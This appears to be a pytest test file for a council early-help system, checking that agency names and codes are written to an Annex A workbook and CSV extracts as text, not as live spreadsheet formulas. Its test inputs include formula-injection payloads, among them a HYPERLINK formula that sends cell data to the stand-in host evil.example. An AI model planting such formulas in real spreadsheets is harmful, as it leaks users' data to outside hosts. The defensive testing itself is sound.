"""Names and codes from the council's file reach Annex A and the extracts as text, never as
a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from earlyhelp.core.testing import Cast, allocated_episode, submitted
from earlyhelp.council.models import Agency
from earlyhelp.performance.periods import Period
from earlyhelp.performance.queries.annex_a import write_annex_a
from earlyhelp.performance.queries.extracts import extract

pytestmark = pytest.mark.usefixtures("monday_morning")

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Early Help")'


@pytest.mark.parametrize("name", [HYPERLINK, "=1+1", "#N/A"])
def test_an_organisation_name_like_a_formula_is_written_as_text(
    cast: Cast, tmp_path: Path, name: str,
) -> None:
    episode = allocated_episode(cast)
    episode.lead_agency = None
    episode.save()
    Agency.objects.filter(teams=episode.team_id).update(name=name)
    out = tmp_path / "annex-a.xlsx"
    write_annex_a(dt.date(2026, 11, 30), [2], str(out), by=None)
    sheet = load_workbook(out)["List 2"]
    organisations = [row[7] for row in sheet.iter_rows(min_row=2)]
    assert organisations, "the children of the open episode are listed"
    assert all(cell.value == name and cell.data_type == "s" for cell in organisations)


def test_ordinary_cells_keep_their_types(cast: Cast, tmp_path: Path) -> None:
    allocated_episode(cast)
    out = tmp_path / "annex-a.xlsx"
    write_annex_a(dt.date(2026, 11, 30), [2], str(out), by=None)
    first = next(load_workbook(out)["List 2"].iter_rows(min_row=2))
    assert first[3].value == "14/03/2015" and first[3].data_type == "s"
    assert first[4].value == 11 and first[4].data_type == "n"


def requests_extract() -> list[dict[str, str]]:
    lines = extract("requests", Period(dt.date(2026, 10, 1), dt.date(2026, 10, 31)),
                    by=None).lines()
    return list(csv.DictReader(io.StringIO("".join(lines))))


@pytest.mark.parametrize("code", ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\tTAB", "\rCR"])
def test_a_code_like_a_formula_is_neutralised_in_an_extract(cast: Cast, code: str) -> None:
    submitted(cast, received_at=dt.datetime(2026, 10, 6, 9, tzinfo=dt.UTC))
    Agency.objects.filter(code="SCH").update(code=code)
    rows = requests_extract()
    assert rows and all(row["referrer_agency"] == "'" + code for row in rows)


def test_ordinary_codes_and_numbers_are_unchanged_in_an_extract(cast: Cast) -> None:
    submitted(cast, received_at=dt.datetime(2026, 10, 6, 9, tzinfo=dt.UTC))
    rows = requests_extract()
    assert {row["referrer_agency"] for row in rows} == {"SCH"}
    assert {row["age_band"] for row in rows} == {"10-15", "25-39"}
    assert {row["received_on"] for row in rows} == {"2026-10-06"}
